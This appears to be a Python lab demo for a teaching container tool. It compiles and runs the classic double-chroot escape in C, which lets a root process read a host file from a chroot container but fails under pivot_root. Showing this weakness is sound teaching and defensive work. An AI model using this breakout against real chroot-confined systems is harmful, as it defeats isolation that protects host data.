"""Demo: chroot is not a jail for root; pivot_root is (labs/01-chroot).

Shell equivalent of what the room sees:
    gcc -static -o escape escape.c            # the double-chroot escape, below
    minicontainer run --rm --isolation chroot demo-escape /escape /bin/cat /tmp/…/host-secret.txt
    minicontainer run --rm demo-escape /escape /bin/cat /tmp/…/host-secret.txt      # pivot_root: fails
See chroot(2) (NOTES), pivot_root(2).
"""
from __future__ import annotations

import secrets
import subprocess
import tarfile
import tempfile
from pathlib import Path

TITLE = "chroot is not a jail: the double-chroot escape, and why pivot_root holds"
SUMMARY = "a root process climbs out of a chroot container, not out of pivot_root"

ESCAPE_C = r"""
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
    mkdir("/.x", 0700);                                         /* a directory below our root */
    if (chroot("/.x") != 0) { perror("chroot"); return 1; }   /* root moves down, cwd stays up */
    for (int i = 0; i < 100; i++) chdir("..");                 /* nothing stops us now */
    if (chroot(".") != 0) { perror("chroot ."); return 1; }    /* the real top is our root */
    execv(argv[1], argv + 1);
    perror("execv");
    return 127;
}
"""


def run(demo) -> None:
    demo.need("gcc")
    demo.ensure_image("busybox")
    work = Path(tempfile.mkdtemp(prefix="mc-demo-escape-"))
    demo.on_exit(lambda: subprocess.run(["rm", "-rf", str(work)]))
    secret = work / "host-secret.txt"
    secret.write_text(f"the host's secret {secrets.token_hex(4)}\n")

    demo.say("""chroot(2) changes one thing: where the kernel starts looking up paths that begin
        with /. The host's file systems stay mounted, the current directory stays where it was.
        A root process may call chroot again — and that is the way out.""")
    demo.step("A file on the host, and a container that cannot see it")
    demo.sh(f"cat {secret}")
    demo.mc("run", "--rm", "--isolation", "chroot", "busybox", "cat", str(secret))

    demo.step("The escape: chroot down, climb up with .., chroot at the top")
    demo.print(key_lines(ESCAPE_C))
    (work / "escape.c").write_text(ESCAPE_C)
    demo.sh(f"gcc -static -O2 -o {work}/escape {work}/escape.c", display="gcc -static -O2 -o escape escape.c",
            check=True)
    image = build_image(demo, work)

    demo.step("Run it in a chroot container (minicontainer run --isolation chroot)")
    jailed = demo.mc("run", "--rm", "--isolation", "chroot", image, "/escape", "/bin/cat", str(secret))
    if "secret" not in jailed.stdout:
        from .narrate import DemoError
        raise DemoError(f"the escape did not work under chroot (exit {jailed.returncode}): {jailed.stderr.strip()}")
    demo.say("""Out. The container's root user read a file of the host. chroot alone was never
        meant to hold root: daemons that chroot themselves drop root right after.""")

    demo.step("The same program with pivot_root (the default)")
    pivoted = demo.mc("run", "--rm", image, "/escape", "/bin/cat", str(secret))
    if "secret" in pivoted.stdout:
        from .narrate import DemoError
        raise DemoError("the escape worked under pivot_root: that must never happen")
    demo.say("""pivot_root made the image the root *mount* of the container's mount namespace, and
        the old root was unmounted (umount -l). The climb ends at the container's own /: there
        is nothing above it any more. `minicontainer run --explain` shows the step.""")


def key_lines(source: str) -> str:
    """The three lines that make the escape, not the whole program: writing it is lab 01's task 2."""
    lines = [line.strip() for line in source.splitlines() if "/*" in line]
    return "\n    …\n".join(lines) + "\n(the whole program is lab 01's task 2; its solution is in labs/01-chroot/solution/)"


def build_image(demo, work: Path) -> str:
    """busybox + /escape, imported as demo-escape (removed when the demo ends)."""
    from ..api import build_recipe
    tar = Path(build_recipe("busybox", work / "busybox.tar").path)
    with tarfile.open(tar, "a") as t:
        t.add(work / "escape", "escape")
    demo.mc("image", "import", str(tar), "demo-escape", show=False, check=True)
    demo.on_exit(lambda: demo.mc("image", "rm", "demo-escape", show=False))
    demo.say("(image demo-escape: busybox plus /escape)")
    return "demo-escape"
